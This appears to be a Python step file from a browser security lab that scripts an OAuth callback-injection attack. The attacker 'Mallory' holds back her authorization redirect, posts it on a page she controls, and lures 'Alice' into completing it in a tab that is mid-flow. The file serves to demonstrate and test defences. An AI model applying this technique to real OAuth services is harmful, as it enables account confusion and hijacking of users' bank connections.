"""Mallory begins, and a tab of Alice's that waits for another answer ends it."""

from typing import Any
from urllib.parse import urlencode

from flask import Response, render_template, request

from labs.chromium import BrowserStage
from labs.stage import Stage, Stuck
from labs.steps import step


def party(world: Any) -> Response:
    """Show two links: one to Balance, the other is the URL that Mallory kept."""
    return Response(
        render_template("pages/party.html", balance=world.here.balance, address=request.args.get("come", ""))
    )


PAGES = {"/party": party}


@step("attacker")
def mallory_keeps_her_callback(stage: Stage) -> None:
    """Let Mallory ask in Balance's name, sign in and allow, up to the last redirect; put its URL on a page."""
    stage.mallory.holds_back = stage.callback("balance")
    stage.mallory.go(stage.link("balance", stage.callback("balance"), state="of-mallorys")).agree()
    if not stage.mallory.handed_over:
        raise Stuck("Mallory was not sent back to Balance")
    stage.onward = f"{stage.here.attacker}/party?{urlencode({'come': stage.mallory.handed_over})}"
    stage.kept["page"] = stage.onward


@step("Alice")
def alice_is_interrupted(stage: BrowserStage) -> None:
    """Open Mallory's page, and Balance from there; press its button, and stop at Bank ID: do not sign in, or allow."""
    stage.lead_alice().click("Look in Balance", "link", stage.here.balance)
    # From now on the tab waits for an answer: with none due, Balance would not even look at Mallory's.
    stage.alice.click("Connect your bank", leads_to=stage.here.auth)
    if not stage.alice.address.startswith(stage.here.auth):
        raise Stuck("Balance did not ask Bank ID")


@step("Alice")
def alice_follows_the_link(stage: BrowserStage) -> None:
    """Go back to Mallory's page in the same tab, and follow its other link. Whose account is it?"""
    # It has to be the same tab: `state` and verifier lie in its `sessionStorage`, which no other tab can read.
    stage.alice.go(stage.kept["page"]).click("I am coming", "link", stage.here.balance)
